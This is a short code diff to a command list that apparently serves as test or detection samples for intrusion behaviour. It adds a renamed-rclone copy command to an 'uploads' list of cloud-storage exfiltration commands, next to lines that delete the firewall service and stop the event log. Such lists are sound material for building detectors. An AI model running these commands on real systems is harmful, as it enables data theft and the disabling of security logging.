@@ -73,7 +73,7 @@ COMMANDS = {
         "sc delete mpssvc", "sc stop eventlog",
     ],
     "uploads": [
-        "q.exe move C:\\q\\out box:q --log-level INFO", "q --config c:\\q\\rclone.conf",
+        "q.exe move C:\\q\\out box:q --log-level INFO", "q --config c:\\q\\rclone.conf", "q.exe --config c:\\a.conf copy c:\\q n:bk",
         '"c:\\q\\BaiduPCS-Go.exe" upload "a" /u', "bypy upload a", "aliyunpan upload a", "aliyundrive sync", "cloudpan189-go upload a",
         "115drive put a", "123pan upload a", "quarkpan upload a", "ossutil64.exe cp a oss://b", "coscli cp a cos://b", "coscmd upload a b",
         "obsutil cp a obs://b", "qshell sync a b", "azcopy copy a b", "gsutil -m cp a gs://b", "s3cmd put a s3://b", "aws s3 cp a s3://b",
